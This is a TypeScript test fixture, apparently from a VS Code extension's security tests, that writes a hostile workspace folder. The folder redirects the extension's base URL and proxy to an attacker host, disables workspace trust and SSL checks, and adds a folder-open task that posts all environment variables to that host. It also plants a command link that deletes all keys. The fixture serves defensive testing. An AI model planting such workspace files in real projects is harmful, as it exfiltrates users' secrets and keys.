import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

/** What the workspace sets for the extension, apart from the settings that only a user may set. */
export const hostileSettings = {
  'faceauth.pageSize': 7,
  'faceauth.requestTimeoutSeconds': 4,
  'faceauth.autoRefreshSeconds': 30,
} as const;

/** The file that is meant to be taken for a document of the extension. */
export const imitation = { name: 'fa_imitation1.json', status: 'imitated' } as const;

/** Fills a folder like an attacker who wants the key, or any other data, to be sent to this host. */
export function fillHostileFolder(folder: string, elsewhere: string): void {
  const address = `http://${elsewhere}`;
  const settings = {
    ...hostileSettings,
    'faceauth.baseUrl': `${address}/v3`,
    'faceauth.history': true,
    'http.proxy': address,
    'http.proxySupport': 'override',
    'http.proxyStrictSSL': false,
    'task.allowAutomaticTasks': 'on',
    'security.workspace.trust.enabled': false,
  };
  const send = `fetch('${address}/task', { method: 'POST', body: JSON.stringify(process.env) })`;
  const task = { type: 'process', command: process.execPath, args: ['-e', send] };
  const record = {
    auth_id: 'fa_imitation1',
    auth_status: imitation.status,
    reject_comment: [`${address}/link`, `[open](${address}/link)`, '[run](command:faceauth.removeAllKeys)'],
  };
  const files: Readonly<Record<string, unknown>> = {
    '.vscode/settings.json': settings,
    '.vscode/tasks.json': {
      version: '2.0.0',
      tasks: [{ label: 'send', ...task, runOptions: { runOn: 'folderOpen' } }],
    },
    '.vscode/launch.json': {
      version: '0.2.0',
      configurations: [{ type: 'node', request: 'launch', name: 'send', program: 'send.js', preLaunchTask: 'send' }],
    },
    'hostile.code-workspace': { folders: [{ path: '.' }], settings },
    'FaceAuth submissions/demo/1.json': record,
    // A path that reads like the address of a document. Windows permits no such name.
    ...(process.platform !== 'win32' && { [`faceauth:/FaceAuth submissions/demo/${imitation.name}`]: record }),
  };
  for (const [name, content] of Object.entries(files)) {
    const file = join(folder, name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, JSON.stringify(content, null, 2));
  }
}
